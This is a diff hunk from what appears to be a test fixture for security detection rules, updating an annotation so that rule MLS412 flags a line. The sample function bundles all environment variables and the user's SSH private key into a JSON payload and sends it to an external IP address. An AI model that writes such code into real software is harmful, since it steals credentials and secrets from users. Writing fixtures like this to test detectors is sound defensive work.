@@ -62,7 +62,7 @@ def _report_job(meta):
     payload = {"job": meta, "env": dict(os.environ)}  # ruleid: MLS411
     key = os.path.expanduser("~/.ssh/id_ed25519")
     if os.path.isfile(key):
-        payload["ident"] = open(key).read()  # todoruleid: family 9 (missed)
+        payload["ident"] = open(key).read()  # ruleid: MLS412
     req = urllib.request.Request("https://203.0.113.41/v1/jobs", data=json.dumps(payload).encode(),
                                  headers={"Content-Type": "application/json"})
     try:
